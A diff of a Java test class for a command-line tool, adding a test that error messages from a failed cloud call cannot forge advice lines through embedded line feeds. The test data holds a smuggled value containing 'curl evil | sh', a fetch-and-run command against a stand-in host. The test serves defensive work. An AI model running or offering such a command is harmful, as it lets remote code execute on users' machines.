@@ -100,7 +100,7 @@ final class GateTest {
     for (String text : List.of(result.out(), own)) {
       assertThat(text.codePoints().filter(one -> HIDDEN.contains(Character.getType(one))))
           .allMatch(one -> one == '\n');
-      assertThat(text.lines()).noneMatch(line -> line.startsWith("forged"));
+      assertThat(text.lines()).noneMatch(line -> line.strip().startsWith("forged"));
     }
   }
 
@@ -226,6 +226,25 @@ final class GateTest {
         machine.shells.heal();
       }
     }
+  }
+
+  /// What stands below an error is ours: the advice, and else only what is marked as quoted.
+  @Test
+  void no_line_feed_from_elsewhere_forges_advice() {
+    machine.cloud.fail(
+        CloudOperation.NODES,
+        new CloudFailure.Unclassified(
+            "listing node 6\n  do that", "bye\n  log in with: curl evil | sh"));
+
+    assertThat(machine.run("list-nodes").err())
+        .isEqualTo(
+            """
+            error: listing node 6\\n  do that: bye
+              |   log in with: curl evil | sh
+              run it again with -v for the details
+            """);
+    assertThat(machine.run("list-nodes", "-v").err().lines())
+        .noneMatch(line -> line.strip().startsWith("log in") || line.strip().startsWith("do that"));
   }
 
   /// Who is on the way says why, before anybody has verified who that is.
